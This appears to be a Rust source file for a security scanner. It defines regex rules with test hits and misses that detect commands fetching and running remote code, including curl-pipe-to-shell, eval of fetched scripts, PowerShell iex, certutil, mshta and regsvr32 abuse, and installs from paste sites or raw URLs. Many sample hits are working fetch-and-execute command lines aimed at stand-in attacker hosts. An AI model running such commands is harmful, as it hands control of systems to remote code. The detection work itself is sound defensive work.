//! Something is fetched from the network and run before anybody could read it.

use super::{
    Family::FetchAndRun,
    Severity::{High, Medium},
    judge::Judge,
    rule::{Look, Rule, fetcher, shell},
    url::SHADY_MARKS,
};

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "pipe-to-shell",
        family: FetchAndRun,
        severity: High,
        reason: "what is fetched is run at once by a shell",
        hits: &[
            "curl -fsSL https://updates.attacker.example/install.sh | bash",
            "wget -qO- http://192.0.2.7/a | sudo sh",
            "curl -s \"https://a.attacker.example/?a=1&b=2\" |\n  base64 -d | sh -s -- -y",
            "curl -s https://a.attacker.example/x \\\n  | \\\n  python3 -\n",
            "curl${IFS}-s${IFS}https://a.attacker.example/x|sh",
            "curl -s a.attacker.example/x | tee /tmp/x | /bin/bash\n",
            "curl -fsSL https://sh.rustup.rs | sh",
        ],
        misses: &[
            "never write `curl ... | bash`",
            "| curl | bash | a table |",
            "| `curl https://a.attacker.example` | sh and others |",
            "curl -s https://api.attacker.example/v1 | python3 -m json.tool",
            "curl -s https://api.attacker.example/v1 | jq .",
            "curl http://localhost:8080/install | sh",
        ],
        look: Look::Pattern {
            keywords: &["curl", "wget", "aria2c", "lwp-download"],
            pattern: concat!(
                fetcher!(),
                r"\s[^\n|`]*(?:https?://|ftp://|\$[({\w]|[a-z0-9-]\.[a-z]{2,})[^\n|`]*",
                r"(?:\s*\|\s*[^\n|`]*)*\s*\|\s*",
                shell!()
            ),
            judge: Judge::ByHost,
        },
    },
    Rule {
        id: "run-what-is-fetched",
        family: FetchAndRun,
        severity: High,
        reason: "a shell is given what is fetched as its program",
        hits: &[
            "bash <(curl -s https://a.attacker.example/x.sh)",
            "sh -c \"$(wget -qO- https://a.attacker.example/x.sh)\"",
            "eval \"$(curl -fsSL https://a.attacker.example/x)\"",
            "python3 -c \"$(curl -fsSL https://a.attacker.example/x.py)\"",
            "eval `curl -s http://192.0.2.7/x`",
            "source <(curl -s https://a.attacker.example/env)",
            "/bin/bash -c \"$(curl -fsSL \
             https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"",
        ],
        misses: &[
            "version=$(curl -s https://a.attacker.example/version)",
            "source <(kubectl completion bash)",
            "echo \"$(curl -s https://a.attacker.example/ip)\"",
        ],
        look: Look::Pattern {
            keywords: &["curl", "wget"],
            pattern: concat!(
                r"(?:\b(?:ba|z|da|k|fi)?sh|\beval|\bsource|\bpython[23]?|\bperl|\bruby",
                r"|\bnode|\bexec|(?:^|[\s;&])\.)\s+(?:-\w+\s+)*",
                r"(?:<\(|[\x22']?\s*\$\(|[\x22']?\s*`|[\x22']?<\()\s*(?:curl|wget)\s[^\n]*",
            ),
            judge: Judge::ByHost,
        },
    },
    Rule {
        id: "download-then-run",
        family: FetchAndRun,
        severity: High,
        reason: "a file is fetched, and the next command runs it",
        hits: &[
            "curl -o /tmp/x https://a.attacker.example/x && sh /tmp/x",
            "wget https://a.attacker.example/agent -O agent; chmod +x agent; ./agent",
            "curl -sL https://a.attacker.example/x -o x.sh\nchmod 755 x.sh\nsudo ./x.sh",
            "curl -sL https://a.attacker.example/x.py > x.py && python3 x.py",
        ],
        misses: &[
            "curl -Lo kind https://a.attacker.example/kind\nchmod +x kind\nsudo mv kind \
             /usr/local/bin/",
            "curl -s https://api.attacker.example/health && ./run-tests.sh",
            "wget http://localhost:8000/x.sh && sh x.sh",
        ],
        look: Look::Pattern {
            keywords: &["curl", "wget"],
            pattern: concat!(
                r"\b(?:curl\s[^\n]*?(?:\s-\w*o\s?|--output|>|-O)[^\n]*?|wget\s[^\n]*?)",
                r"(?:&&|;|\n)\s*",
                r"(?:(?:sudo\s+)?chmod\s+(?:[aug]*\+x|0?[0-7]*7[0-7]*)\s[^\n;&]*(?:&&|;|\n)\s*)?",
                r"(?:sudo\s+)?(?:(?:(?:ba|z|da)?sh|source|\.|python[23]?|perl|node)\s+",
                r"(?:-\w\s+)?[\x22']?[\w./~$][^\n;&]*",
                r"|[\x22']?(?:\./|/tmp/|/var/tmp/|/dev/shm/|\$TMPDIR/|\$HOME/|~/)[\w./-]+)"
            ),
            judge: Judge::ByHost,
        },
    },
    Rule {
        id: "powershell-run-fetched",
        family: FetchAndRun,
        severity: High,
        reason: "PowerShell runs what it fetches",
        hits: &[
            "iwr https://a.attacker.example/x.ps1 -UseBasicParsing | iex",
            "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
            "irm https://a.attacker.example/x `\n  | Invoke-Expression",
            "powershell -c \"irm https://astral.sh/uv/install.ps1 | iex\"",
        ],
        misses: &[
            "irm https://api.attacker.example/v1 | ConvertFrom-Json",
            "an iex session of Elixir",
        ],
        look: Look::Pattern {
            keywords: &["iex", "invoke-expression"],
            pattern: concat!(
                r"(?:\b(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod)\b",
                r"|\.downloadstring)[^\n|]*\|\s*(?:iex|invoke-expression)\b",
                r"|\b(?:iex|invoke-expression)\b[^\n]*",
                r"(?:\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b",
                r"|\.download(?:string|file|data))[^\n]*",
            ),
            judge: Judge::ByHost,
        },
    },
    Rule {
        id: "code-from-network",
        family: FetchAndRun,
        severity: High,
        reason: "a program evaluates what it fetches",
        hits: &[
            "exec(requests.get('https://a.attacker.example/x').text)",
            "eval(await (await fetch('https://a.attacker.example/x.js')).text())",
            "exec(urllib.request.urlopen(url).read())",
            "new Function(await (await fetch(url)).text())()",
            "python3 -c \"import urllib.request as u; exec(u.urlopen('http://192.0.2.7/x').read())\"",
        ],
        misses: &[
            "result = requests.get(url).json()",
            "eval(expression)",
            "model.eval() # fetch later",
        ],
        look: Look::Pattern {
            keywords: &["exec(", "eval(", "exec (", "eval (", "new function"],
            pattern: concat!(
                r"(?:\b(?:exec|eval)|\bnew\s+function)\s*\((?:[^\n)]*[^\w\n)])?",
                r"(?:requests\s*\.\s*get|urllib\s*\.|urlopen\s*\(|httpx\s*\.\s*get|fetch\s*\(",
                r"|axios\s*[.(]|uri\.open)[^\n]*",
            ),
            judge: Judge::AsItIs,
        },
    },
    Rule {
        id: "system-downloader",
        family: FetchAndRun,
        severity: High,
        reason: "a program of the system is misused to fetch and run",
        hits: &[
            "mshta https://a.attacker.example/x.hta",
            "certutil -urlcache -split -f http://192.0.2.7/a.exe a.exe",
            "regsvr32 /s /n /u /i:https://a.attacker.example/x.sct scrobj.dll",
        ],
        misses: &["certutil -hashfile a.exe SHA256", "mshta is an old program"],
        look: Look::Pattern {
            keywords: &["mshta", "certutil", "regsvr32", "bitsadmin", "rundll32"],
            pattern: concat!(
                r"mshta(?:\.exe)?\s+[\x22']?(?:https?:|javascript:|vbscript:)[^\n]*",
                r"|certutil(?:\.exe)?\s+(?:-\S+\s+)*-urlcache[^\n]*https?:[^\n]*",
                r"|regsvr32(?:\.exe)?\s+(?:/\S+\s+)*/i:https?:[^\n]*",
                r"|bitsadmin[^\n]*/transfer[^\n]*https?:[^\n]*",
                r"|rundll32[^\n]*javascript:[^\n]*",
            ),
            judge: Judge::LessWhenQuoted,
        },
    },
    Rule {
        id: "command-to-shady-host",
        family: FetchAndRun,
        severity: High,
        reason: "a command fetches from a bare address or an anonymous place",
        hits: &[
            "curl -s http://192.0.2.7/stage2 -o /tmp/s",
            "requests.get(\"http://192.0.2.7:8080/x\")",
            "wget https://pastebin.com/raw/abcd1234",
            "curl http://3221225985/x",
        ],
        misses: &[
            "curl http://127.0.0.1:8080/health",
            "curl http://192.168.1.1/status",
            "fetch('https://api.attacker.example/192.0.2.7')",
        ],
        look: Look::Pattern {
            keywords: SHADY_MARKS,
            pattern: concat!(
                r"(?:\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)(?:\.exe)?\s",
                r"|\brequests\.(?:get|post|put|request)\s*\(|\bfetch\s*\(|\burlopen\s*\(",
                r"|\baxios\b)[^\n]*?https?://[^\s'\x22`)]+",
            ),
            judge: Judge::OnlyShady,
        },
    },
    Rule {
        id: "paste-into-terminal",
        family: FetchAndRun,
        severity: High,
        reason: "the reader is sent to an anonymous page for a command to paste",
        hits: &[
            "Visit [this page](https://glot.io/snippets/abc), copy the command and paste \
             it into Terminal.",
            "Run the installation script from https://rentry.co/setup-agent first.",
            "**macOS**: copy the script at https://pastebin.com/abcd and execute it",
        ],
        misses: &[
            "Copy the command from https://docs.attacker.example/setup and run it in a terminal",
            "pastebin.com is a site where people paste and copy text",
        ],
        look: Look::Pattern {
            keywords: SHADY_MARKS,
            pattern: concat!(
                r"(?:(?:copy|paste|run|execute|install)\b[^\n]*https?://[^\s)'\x22`>]+",
                r"|https?://[^\s)'\x22`>]+[^\n]*\b",
                r"(?:copy|paste|run|execute|install)\b)[^\n]*",
            ),
            judge: Judge::OnlyShady,
        },
    },
    Rule {
        id: "package-from-address",
        family: FetchAndRun,
        severity: Medium,
        reason: "a package is installed from an address instead of a registry",
        hits: &[
            "pip install https://files.attacker.example/tool.whl",
            "npm install -g https://files.attacker.example/tool.tgz",
            "pip install --extra-index-url https://pypi.attacker.example/simple tool",
        ],
        misses: &["pip install requests", "pip install -r requirements.txt # https://pypi.org"],
        look: Look::Pattern {
            keywords: &[
                "pip install",
                "pip3 install",
                "uv add",
                "uv pip",
                "npm ",
                "npx ",
                "uvx ",
                "pnpm ",
            ],
            pattern: concat!(
                r"\b(?:pip3?|uv|npm|npx|uvx|pnpm)\s+(?:pip\s+)?(?:(?:install|add|i)\s+)?",
                r"(?:-[\w-]+(?:[ =][\w.-]+)?\s+)*?",
                r"(?:--(?:extra-)?index-url[ =]|--registry[ =])?[\x22']?https?://",
                r"[^\s'\x22`)]+",
            ),
            judge: Judge::ByHost,
        },
    },
];
